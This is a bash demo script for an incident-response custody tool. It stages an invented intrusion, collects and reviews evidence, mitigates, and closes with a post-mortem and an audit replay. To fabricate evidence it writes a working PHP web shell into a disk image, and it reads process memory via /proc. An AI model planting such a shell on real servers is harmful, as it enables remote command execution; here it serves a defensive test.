#!/usr/bin/env bash
# A whole incident, invented, through the command line: twelve people and an
# administrator, eleven artifacts made for it, from the first indication to the
# post-mortem. Back and forth between Diagnose and Stabilize & Recover, an emergency
# mitigation with three signatures, a finding that is reviewed and one that is taken
# back; and what the process refuses. At the end an auditor decides everything again
# from the log, and agrees. Fails at the first step that does not do what it says.
set -euo pipefail
cd "$(dirname "$0")/.."
. deploy/story.sh
cd "$work"
head -c 18 /dev/urandom | base64 >passphrase
export CUSTODY_PASSPHRASE_FILE=$work/passphrase
ago() { date -d "$1 ago" +%Y-%m-%dT%H:%M:%S%:z; }
in_() { date -d "+$1" +%Y-%m-%dT%H:%M:%S%:z; }
id() { field principal "$1/profile.json"; }
incident() { local who=$1 verb=$2; shift 2; as "$who" incident "$verb" "$i" --purpose "${why:-as the procedure asks}" "$@"; }

step "Eleven artifacts: two disks with real file systems, a process's memory, logs, traffic, and what else there was"
mkdir -p web/var/www/html web/etc mail/etc mail/var/mail
echo '<?php system($_GET["c"]); ?>' >web/var/www/html/x.php
echo 'root:x:0:0:root:/root:/bin/bash' >web/etc/passwd
echo 'relayhost = [203.0.113.9]:25' >mail/etc/main.cf
printf 'From: billing@contoso.example\n\nyour invoice\n' >mail/var/mail/contoso
for d in web mail; do
  truncate -s 16M "$d"01.dd
  PATH="$PATH:/sbin:/usr/sbin" mke2fs -q -t ext4 -d "$d" "$d"01.dd
done
# The heap of a shell, by its own /proc: a real piece of memory.
bash -c 'secret="c2 203.0.113.9:443"; exec 3</proc/self/mem
  read -r from to < <(sed -n "s/^\([0-9a-f]*\)-\([0-9a-f]*\) .*\[heap\]/\1 \2/p" /proc/$$/maps)
  dd bs=4096 skip=$((16#$from / 4096)) count=$(((16#$to - 16#$from) / 4096)) of=web01.mem status=none <&3'
for n in $(seq 1 400); do printf '198.51.100.%d - - [23/Nov/2026:03:%02d:%02d +0000] "GET / HTTP/1.1" 200 612\n' $((n % 250)) $((n / 60 % 60)) $((n % 60)); done >access.log
printf '203.0.113.9 - - [23/Nov/2026:03:12:07 +0000] "GET /x.php?c=id HTTP/1.1" 200 54\n' >>access.log
printf 'Nov 23 03:10:41 web01 sshd[311]: Accepted password for deploy from 203.0.113.9 port 50112\n' >auth.log
printf '2026-11-23T03:14:00Z ALLOW 10.0.0.8 203.0.113.9:443 bytes=734003200\n' >gateway.log
printf '\xd4\xc3\xb2\xa1\x02\0\x04\0\0\0\0\0\0\0\0\0\xff\xff\0\0\x01\0\0\0' >capture.pcap
printf '{"time":"2026-11-23T03:09:12Z","action":"CreateAccessKey","by":"deploy"}\n' >cloud-audit.json
printf '{"alert":4711,"host":"web01","rule":"outbound to unknown host"}\n' >edr-alert.json
ls -l web01.dd mail01.dd web01.mem ./*.log capture.pcap ./*.json

step "A service of its own, in a new folder, on loopback"
run custody init --dir service --origin custody.example/incident --listen 127.0.0.1:0
serve

step "An administrator, and twelve people with keys and roles of their own"
newcomer admin "Ada Admin" administrator
as admin principal enroll --first --code "$code"
person() { newcomer "$1" "$2" "$3"; shift 3; enroll "$who" "$@"; }
who=exa;  person exa  "Exa Executive"  "chief security officer"   executive-incident-manager
who=lena; person lena "Lena Lead"      "incident manager"         incident-manager
who=mia;  person mia  "Mia Manager"    "incident manager"         incident-manager on-call
who=olga; person olga "Olga On-Call"   "security engineer"        on-call
who=emil; person emil "Emil Engineer"  "forensic engineer"        forensic-engineer
who=fay;  person fay  "Fay Forensics"  "forensic engineer"        forensic-engineer
who=carl; person carl "Carl Comms"     "communications manager"   communications-manager
who=stef; person stef "Stef Service"   "engineer of the web tier" service-team-expert
who=owen; person owen "Owen Owner"     "head of the mail tier"    service-owner
who=cleo; person cleo "Cleo Support"   "customer support"         customer-support-engineer
who=lex;  person lex  "Lex Legal"      "legal advisor"            legal-advisor
who=aude; person aude "Aude Auditor"   "external auditor"         external-auditor

step "That they are ready for their roles is on record before they have them"
ready() { # by, who, role, apprenticeship
  as "$1" team qualify "$(id "$2")" --role "$3" --training "course of 2026" --experience "four years" \
    --authority "the head of response" --until "$(in_ '1 year')" --apprenticeship "${4:-}"
}
refused 'signs a senior one' custody --home mia team qualify "$(id lena)" --role incident-manager --training t --experience e --authority a \
  --apprenticeship "2025" --until "$(in_ '1 year')"
ready exa lena incident-manager "2025, under Exa Executive"
ready lena mia incident-manager "2026, under Lena Lead"
ready lena mia on-call
ready lena exa executive-incident-manager
ready lena olga on-call
ready lena emil forensic-engineer
ready lena fay forensic-engineer
ready lena carl communications-manager
ready lena stef service-team-expert
ready lena cleo customer-support-engineer
as lena team rota "$(id olga)" --from "$(ago '1 hour')" --to "$(in_ '6 days')"
as lena team rota "$(id mia)" --from "$(in_ '5 days')" --to "$(in_ '11 days')"
refused 'NOBODY ON CALL' custody --home lena team list
must 'DEFAULTS OF THE SERVICE NEVER REVIEWED'
as lena team rota "$(id olga)" --from "$(in_ '10 days')" --to "$(in_ '16 days')"
refused 'due within 366 days' custody --home admin team review-defaults "$here/deploy/OPERATING.md" --decided kept --next "$(in_ '2 years')" --purpose "set up"
as admin team review-defaults "$here/deploy/OPERATING.md" --decided "kept: this is a demonstration" --next "$(in_ '6 months')" --purpose "set up"
as lena team list
must 'defaults reviewed 0 days ago'

step "Detect: an engineer of the web tier notices something, and sees nothing of other incidents by saying so"
as stef incident open --title "web01 talks to an unknown host" --detected "$(ago '3 hours')"
i=$(grep -o 'i-[a-z2-7]\{16\}' out | head -n 1)
refused 'o such thing, or not for you' custody --home stef incident status "$i"
for p in exa mia olga emil fay carl stef owen cleo lex; do as lena incident assign "$i" "$(id $p)" --purpose "the incident's team"; done
as olga incident assign "$i" "$(id lena)" --purpose "senior incident manager"
incident lena appoint --principal "$(id olga)" --role on-call
refused 'incident.detection' custody --home olga incident stage "$i" --stage assess --purpose "it is real"
incident olga detection --at "$(ago '3 hours')" --source monitoring-signature --reference "EDR alert 4711" --properties confidentiality --properties integrity
why="it is real" incident olga stage --stage assess

step "Assess: risk, severity and priority, an incident manager, whose responsibility it is"
incident olga assess --security yes --privacy unknown --escalated --impact "the web tier, perhaps mail"
refused 'severity is 1' custody --home olga incident rate "$i" --severity 2 --priority 2 --data-risk imminent --purpose "mail is near"
incident olga rate --severity 1 --priority 2 --data-risk imminent
refused 'appoint one first' custody --home lena incident stage "$i" --stage diagnose --purpose "go on"
incident olga appoint --principal "$(id lena)" --role incident-manager
incident lena scope --responsibility provider --model saas --layer application
incident lena dependency --service mail --team "mail team" --decision include
incident lena consult --party operations --who "B. Lee, operations" --question "is web01 in production?" --answer "yes, for all customers"
for p in exa:executive-incident-manager emil:forensic-engineer fay:forensic-engineer carl:communications-manager cleo:customer-support-engineer lex:legal-advisor; do
  incident lena appoint --principal "$(id "${p%%:*}")" --role "${p##*:}"
done
incident lena appoint --principal "$(id stef)" --role service-team-expert --service web
incident lena appoint --principal "$(id owen)" --role service-owner --service mail
incident lena shift --principal "$(id lena)" --from "$(ago '10 minutes')" --to "$(in_ '12 hours')"
incident lena shift --principal "$(id mia)" --from "$(in_ '11 hours')" --to "$(in_ '1 day')"
why="experts are there" incident lena stage --stage diagnose
as lena incident status "$i"
must 'severity 1'

step "Diagnose: evidence is taken in"
take() { # who, file, exhibit, type, flags…
  local who=$1 file=$2 exhibit=$3 type=$4; shift 4
  as "$who" evidence add "$file" --incident "$i" --exhibit "$exhibit" --type "$type" --source "${source:-web01}" \
    --collected-at "$(ago '5 minutes')" --place "the demo's folder" --authority-kind policy --authority "incident response policy 4.2" \
    --tool none --tool-version 0 --tool-settings none --purpose "evidence of the intrusion" "$@"
  item=$(grep -o 'e-[a-z2-7]\{16\}' out | head -n 1)
  items+=("$item")
}
items=()
span=(--first-event 2026-11-23T03:00:00Z --last-event 2026-11-23T03:20:00Z)
take emil web01.dd EX-1 disk --method dead --write-blocker "none: a demonstration" --unread 0; web=$item
source=mail01 take emil mail01.dd EX-2 disk --method dead --write-blocker "none: a demonstration" --unread 0; mail=$item
take emil web01.mem EX-3 memory --method live --changes "the shell that copied itself" --unread 0; mem=$item
take fay access.log EX-4 log --method logical "${span[@]}"; access=$item
take fay auth.log EX-5 log --method logical "${span[@]}"; auth=$item
source=gateway take emil gateway.log EX-6 log --method logical "${span[@]}"; gateway=$item
source=gateway take fay capture.pcap EX-7 network --method logical
source="the provider's console" take cleo cloud-audit.json EX-8 cloud --method remote
source="the EDR's console" take olga edr-alert.json EX-9 document --method remote
: >usb-stick
as emil evidence add usb-stick --empty --name "USB stick" --incident "$i" --exhibit EX-10 --type physical --source "USB stick from web01's front port" \
  --serial 0951-1666 --method seizure --bag B-77 --seal S-12 --collected-at "$(ago '5 minutes')" --place "rack 12" --authority-kind policy \
  --authority "incident response policy 4.2" --purpose "found in the rack"
items+=("$(grep -o 'e-[a-z2-7]\{16\}' out | head -n 1)")
must 'sealed EX-10'

step "No image is examined before a legal advisor has cleared it"
refused 'no legal advisor has cleared' custody --home emil evidence get "$web" -o web.copy --purpose "timeline of the intrusion"
incident lex clear --authority "works agreement 7" --conditions "no private mail is read"
as emil evidence get "$web" -o web.copy --purpose "timeline of the intrusion"
as fay evidence get "$access" -o access.copy --purpose "who called x.php"
PATH="$PATH:/sbin:/usr/sbin" debugfs -R 'dump /var/www/html/x.php x.php' web.copy 2>/dev/null
take emil x.php EX-11 other --method logical; shell=$item
as emil process add "$i" --tool debugfs --version "$(PATH="$PATH:/sbin:/usr/sbin" debugfs -V 2>&1 | sed -n '1s/debugfs \([^ ]*\).*/\1/p')" \
  --parameters "-R 'dump /var/www/html/x.php x.php'" --environment "Linux, no options set" --deterministic --inputs "$web" --output "$shell" --purpose "to look at the web shell"

[ "${#items[@]}" = 11 ] || { echo "demo: ${#items[@]} items instead of 11" >&2; exit 1; }

step "Findings: fact apart from what it means, with their places in the evidence"
as emil finding add "$i" --title "a web shell on web01" --fact "/var/www/html/x.php passes a parameter to system()" \
  --interpretation "whoever reached it ran commands as the web server" --limits "only this image was looked at" --alternatives "an administrator's tool: nobody knows it" \
  --confidence high --status established --citations "$web:for:file=/var/www/html/x.php" --citations "$shell:for" --techniques T1505.003 \
  --indicators ip:203.0.113.9 --event-at 2026-11-23T03:11:00Z --purpose "basis of the containment"
must '^F-1'
refused 'cited by digest and place' custody --home fay finding add "$i" --title "the shell was used" --fact "x.php was called" --interpretation "commands were run" \
  --limits "one log" --alternatives "a scanner" --confidence high --status established --purpose "basis of the containment"
as fay finding add "$i" --title "the shell was used from 203.0.113.9" --fact "one request to /x.php?c=id was answered with 200" --interpretation "a command was run" \
  --limits "the log may have been altered on web01" --alternatives "a scanner: none calls with c=id" --confidence moderate --status established \
  --citations "$access:for:line=401" --event-at 2026-11-23T03:12:07Z --purpose "basis of the containment"
as fay finding add "$i" --title "700 MB left through the gateway" --fact "the gateway counted 734003200 bytes to 203.0.113.9" --interpretation "customer data was copied" \
  --limits "encrypted" --alternatives "an update" --confidence low --status tentative --citations "$gateway:for:line=1" --purpose "to be looked into"
must 'never had anything in hand'
refused 'second person' custody --home emil finding review "$i" --finding F-1 --verdict agrees --text "sure" --purpose review
as fay finding review "$i" --finding F-1 --verdict agrees --text "read the file in the image myself" --purpose review
as emil finding review "$i" --finding F-3 --verdict disagrees --text "the gateway also counts backups to that range" --purpose review
as fay finding withdraw "$i" --finding F-3 --reason "the 700 MB are the backup's" --purpose "it does not hold"
as lena incident event "$i" --at 2026-11-23T03:10:41Z --title "login of deploy from 203.0.113.9" --source "web01's clock" --citations "$auth:for:line=1" --purpose "timeline"
as fay incident timeline "$i"
incident lena classify --access unauthorized --cause attack --flaw-by provider --basis "F-1, F-2: no customer data was reached"
incident lena customers --impacted unknown

step "Containment goes on beside the diagnosis"
as stef mitigation add "$i" --type containment --text "quarantine web01" --owner "$(id stef)" --purpose "stop it"
as stef mitigation carry-out "$i" --measure M-1 --how "its switch port is shut" --purpose "stop it"

step "Diagnose is not left while evidence is not safe"
refused 'on legal hold' custody --home lena incident stage "$i" --stage stabilize-recover --purpose "go on"
for e in "${items[@]}"; do
  as lex evidence hold "$e" --authority "preservation of evidence, incident $i" --purpose "preserved"
  as fay incident catalogue "$i" --evidence "$e" --what forensic-data --mark investigated --reason "looked at" --purpose catalogue >/dev/null
done
as fay incident catalogue "$i" --reference "EDR alert 4711" --what alert --mark investigated --reason "F-1" --purpose catalogue
settled() { custody --home lena incident status "$i" >out; ! grep -q 'read back' out; }
for _ in $(seq 200); do settled && break; sleep 0.1; done
why="the way in is known" incident lena stage --stage stabilize-recover

step "Stabilize & Recover: and back to Diagnose, since mail is affected too"
why="mail01 relays to the same host" incident lena stage --stage diagnose
as emil evidence get "$mail" -o mail.copy --purpose "is mail affected?"
as emil finding add "$i" --title "mail01 relays through the intruder's host" --fact "/etc/main.cf names 203.0.113.9 as relayhost" --interpretation "outgoing mail was read" \
  --limits "how much is not known" --alternatives "a typing error: the address is the intruder's" --confidence high --status established \
  --citations "$mail:for:file=/etc/main.cf" --purpose "scope"
as fay evidence get "$mail" -o mail.copy2 --purpose "review of F-4"
as fay finding review "$i" --finding F-4 --verdict agrees --text "the same in the image" --purpose review
incident lena customers --impacted yes --results disclosure --how "outgoing mail passed through the intruder's host" --customers Contoso --findings F-4
incident lena rate --severity 1 --priority 1 --data-risk confirmed --finding F-4
incident lena classify --access unauthorized --cause attack --results disclosure --flaw-by provider --basis "F-4"
must 'a security incident'
refused 'only the incident' custody --home lena incident declare "$i" --declared --limb "unauthorized access, disclosure" --purpose declaration
incident exa declare --declared --limb "unauthorized access, disclosure"

step "Emergency mitigation: three people sign one statement"
as lena emergency propose "$i" --text "stop all outgoing mail" --service mail --impact "no customer can send mail for an hour" --rationale "mail is being read" \
  --alternatives "relay past the host: takes a day" --outage --notice-due "$(in_ '30 minutes')" --expected-back "$(in_ '1 hour')" --findings F-4 --purpose "stop the disclosure"
must '^X-1'
as emil emergency propose "$i" --text "switch mail01 off" --service mail --impact "no mail at all" --rationale "mail is being read" \
  --alternatives "X-1" --outage=false --findings F-4 --purpose "stop the disclosure"
as emil emergency withdraw "$i" --proposal X-2 --reason "X-1 does less harm" --purpose "one is enough"
refused 'X-2 was withdrawn' custody --home exa emergency sign "$i" --proposal X-2 --as executive-incident-manager --purpose agreed
as exa emergency sign "$i" --proposal X-1 --as executive-incident-manager --purpose agreed
refused 'is not service-owner' custody --home exa emergency sign "$i" --proposal X-1 --as service-owner --purpose agreed
as owen emergency sign "$i" --proposal X-1 --as service-owner --purpose agreed
refused 'no approved emergency mitigation' custody --home carl emergency outage-notice "$i" --proposal X-1 --reference "status page 88" --purpose notice
as lena emergency sign "$i" --proposal X-1 --as incident-manager --purpose agreed
as carl emergency outage-notice "$i" --proposal X-1 --reference "status page 88" --expected-back "$(in_ '50 minutes')" --purpose notice
as lena incident status "$i"
must 'the outage notice for X-1, due at .* (in time), was sent at'
must 'respond: .* acts on record'
why="mail is stopped" incident lena stage --stage stabilize-recover

step "How they came in was reported as a vulnerability, before anybody thought of an incident"
as stef vulnerability report --title "x.php runs what it is given" --affected "web tier, file upload" --source researcher --contact "finder@example.net" --text "POST of x.php to /upload is stored below the web root" --at "$(ago '2 hours')"
refused 'no such thing, or not for you' custody --home stef vulnerability assess V-1 --verdict not-one --purpose "it is mine"
as olga vulnerability assess V-1 --verdict confirmed --severity 1 --owner "web tier" --due "$(in_ '7 days')" --purpose "tried it"
as lena vulnerability link V-1 "$i" --purpose "the way in"
as olga vulnerability fix V-1 --how "uploads are stored outside the web root" --purpose "tried it again"
as mia vulnerability list
must 'V-1 .*(fixed)'

step "Stabilize & Recover: a plan, measures that somebody else tests, two verifications"
as lena mitigation plan "$i" --text "rebuild web01 and mail01 from images, then open mail" --findings F-1 --findings F-4 --purpose recovery
as stef mitigation add "$i" --type corrective --text "rebuild mail01, relay set from the repository" --owner "$(id stef)" --findings F-4 --purpose recovery
as stef mitigation carry-out "$i" --measure M-2 --how "rebuilt" --purpose recovery
refused 'somebody else tests it' custody --home stef mitigation test "$i" --measure M-2 --passed --how "looked at it" --purpose recovery
as emil mitigation test "$i" --measure M-1 --passed --how "no traffic from web01 at the switch" --purpose recovery
as emil mitigation test "$i" --measure M-2 --passed --how "mail goes where it should" --purpose recovery
as lena mitigation containment "$i" --risk customer --contained --how "no mail passes 203.0.113.9" --purpose recovery
refused 'business' custody --home lena incident stage "$i" --stage close-post-mortem --purpose "done"
as stef mitigation containment "$i" --risk business --contained --how "web01 and mail01 are rebuilt" --purpose recovery
incident lena rate --severity 3 --priority 2 --data-risk none --finding F-4
incident carl note --type draft --contributors "$(id lena)" --contributors "$(id lex)" --text "what Contoso is to be told"
incident carl note --type customer-update --audience Contoso --contributors "$(id lena)" --text "your outgoing mail of 23 November was read"
as lena repair add "$i" --type engineering --text "the relay comes from the repository alone" --owner "mail team" --due "$(in_ '30 days')" --purpose "so that it does not happen again"
why="recovered" incident lena stage --stage close-post-mortem

step "Hand-over: Mia leads it to its end, in one act with both names"
incident lena hand-over --from "$(id lena)" --to "$(id mia)" --role incident-manager
refused 'alone decides' custody --home lena incident close "$i" --end resolved --restored "$(ago '1 minute')" --notification "Contoso was told" --purpose done

step "Close & Post-mortem: not without a post-mortem, which nobody outside reads"
refused 'the post-mortem' custody --home mia incident close "$i" --end resolved --restored "$(ago '1 minute')" --notification "Contoso was told" --purpose done
printf 'Technical lapses: the relay was set by hand.\nAll others: none found.\n' >postmortem.txt
printf 'Outgoing mail of 23 November was read by an intruder. It is stopped.\n' >summary.txt
source="the incident manager" take mia postmortem.txt PM-1 post-mortem --method logical; pm=$item
source="the communications manager" take olga summary.txt PM-2 document --method logical; summary=$item
headings=(--headings technical-lapses:found)
for h in communication-lapses procedural-failures manual-errors process-flaws engineering-follow-up response-procedures procedure-updates; do headings+=(--headings "$h:none"); done
refused 'the heading revisions is missing' custody --home mia postmortem issue "$i" --evidence "$pm" "${headings[@]}" --purpose "lessons"
as mia postmortem issue "$i" --evidence "$pm" "${headings[@]}" --headings revisions:none --purpose "lessons"
as carl postmortem summarise "$i" --evidence "$summary" --purpose "for Contoso"
refused 'nobody approves' custody --home carl postmortem approve "$i" --summary S-1 --purpose "for Contoso"
as lex postmortem approve "$i" --summary S-1 --purpose "for Contoso"
refused 'no such thing, or not for you' custody --home cleo evidence get "$pm" -o pm.copy --purpose curiosity
as aude evidence get "$pm" -o pm.copy --purpose "routine audit"
run cmp postmortem.txt pm.copy
incident mia close --end resolved --restored "$(ago '1 minute')" --notification "Contoso was told on the day"
as mia incident status "$i"
must 'closed'
must "derived *$shell from $web"
must 'to be given since .* by now'
refused 'is closed' custody --home fay finding add "$i" --title late --fact f --interpretation i --limits l --alternatives a --confidence low --status tentative --purpose late
as mia repair done "$i" --repair R-1 --how "version 2.1 is out" --purpose "done"
as mia repair list
as mia team report

step "The proof of the whole incident, and the auditor's replay of the log"
as lex bundle export "$i" -o incident.bundle --purpose "disclosure"
stop
run custody bundle verify incident.bundle --trust trust.json
must '^VERIFIED'
run custody audit --dir service
must '^AGREES'

printf '\ndemo: done, every step did what it says\n'
